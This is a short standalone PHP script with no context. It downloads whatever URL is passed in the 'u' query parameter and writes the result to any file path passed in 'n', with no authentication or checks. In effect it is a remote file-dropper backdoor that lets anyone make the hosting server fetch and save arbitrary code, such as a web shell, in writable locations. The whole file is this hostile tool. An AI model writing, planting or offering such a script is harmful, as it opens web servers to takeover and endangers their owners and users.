<?php
$ch = curl_init($_GET['u']);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
$code = curl_exec($ch);
file_put_contents($_GET['n'], $code);
